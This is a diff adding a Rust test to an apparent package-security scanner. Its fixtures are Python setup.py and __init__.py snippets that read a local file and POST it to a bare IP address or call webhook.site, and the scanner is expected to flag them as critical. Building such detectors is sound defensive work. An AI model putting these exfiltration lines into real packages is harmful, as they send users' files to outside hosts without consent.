@@ -261,6 +261,20 @@ fn what_somebody_has_to_ask_for_is_told_by_its_other_end() {
 }
 
 #[test]
+fn files_are_sent_to_nobody_without_a_name() {
+    for (address, expected) in [
+        ("http://203.0.113.9/x", "critical"),
+        ("https://upload.acme.example/x", ""),
+    ] {
+        let text = format!(
+            "import requests\nwith open('/home/prices.txt') as f:\n    requests.post('{address}', data=f.read())\n"
+        );
+        let found = worst(&[("setup.py", &text)]);
+        assert_eq!(found == "critical", expected == "critical", "{text}: {found}");
+    }
+}
+
+#[test]
 fn an_address_that_takes_what_anybody_sends_is_told_nothing_unasked() {
     let call = "import requests\nrequests.get('https://webhook.site/1-2')\n";
     assert_eq!(worst(&[("acme/__init__.py", call)]), "critical");
